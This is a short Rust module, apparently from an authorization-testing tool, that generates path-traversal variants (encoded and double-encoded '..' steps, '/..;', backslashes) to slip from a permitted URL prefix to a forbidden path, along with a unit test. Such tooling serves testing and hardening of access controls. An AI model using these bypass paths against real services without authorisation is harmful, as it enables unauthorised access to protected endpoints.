//! Paths that begin with a path that the caller may reach, go up, and go down again to a path that
//! the caller may not reach. They get past a guard that compares only the beginning of a path.

use super::classes;
use super::tricks::Trick;

/// Spellings of a step up to the parent.
const UP: [&str; 7] = ["/..", "/%2e%2e", "/.%2E", "/..;", "%2F..", "\\..", "/%252e%252e"];

/// Paths that go up from `from` to the root, and down to `path`.
pub(super) fn tricks(method: &str, from: &str, path: &str) -> Vec<Trick> {
    let from = from.trim_end_matches('/');
    let depth = from.matches('/').count();
    if depth == 0 {
        return Vec::new();
    }
    UP.iter().map(|up| Trick::new(classes::DETOURS, method, format!("{from}{}{path}", up.repeat(depth)))).collect()
}

#[cfg(test)]
mod tests {
    use super::super::readings::readings;
    use super::*;

    #[test]
    fn each_leads_to_the_path() {
        let tricks = tricks("PUT", "/api/health/", "/api/users");
        assert_eq!(tricks[0].target, b"/api/health/../../api/users");
        for trick in &tricks {
            assert!(readings(&trick.target).contains(&b"/api/users"[..]), "{}", trick.target.escape_ascii());
            assert_eq!((trick.class, &*trick.method), ("detours", "PUT"));
        }
        assert_eq!(super::tricks("PUT", "/", "/api/users"), []);
    }
}
